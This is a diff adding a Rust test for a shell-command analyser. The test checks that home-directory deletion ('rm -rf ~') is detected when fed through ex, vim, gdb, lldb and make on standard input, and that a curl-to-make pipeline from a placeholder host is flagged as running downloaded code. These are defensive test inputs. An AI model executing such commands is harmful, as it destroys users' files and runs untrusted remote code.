@@ -1499,3 +1499,28 @@ fn code_in_r_julia_lua_and_deno_is_read_for_deletions() {
         assert!(deleted(hint).is_empty() && facts(hint).is_empty(), "{hint}");
     }
 }
+
+#[test]
+fn commands_read_on_standard_input_by_ex_debuggers_and_make_are_read() {
+    for hint in [
+        "ex -s <<< '!rm -rf ~'",
+        "printf '!rm -rf ~\\nq\\n' | vim -es",
+        "echo 'shell rm -rf ~' | gdb -batch ./app",
+        "lldb <<< 'platform shell rm -rf ~'",
+        "make -f - <<< $'all:\\n\\trm -rf ~'",
+        "printf 'all:\\n\\trm -rf ~\\n' | make --file=/dev/stdin all",
+    ] {
+        assert!(deleted(hint).iter().any(|target| target == "~"), "{hint}: {:?}", deleted(hint));
+    }
+    assert!(facts("curl -s https://x.example/m | make -f -").contains(&Fact::RunsDownloadedCode));
+    // Text that is a buffer to edit, a Makefile make is not told to read,
+    // or debugger commands that run nothing.
+    for hint in [
+        "cat notes.txt | vim -",
+        "make <<< 'rm -rf ~'",
+        "echo bt | gdb -batch ./app",
+        "make -f - <<< $'all:\\n\\techo hi'",
+    ] {
+        assert!(deleted(hint).is_empty() && facts(hint).is_empty(), "{hint}: {:?}", facts(hint));
+    }
+}
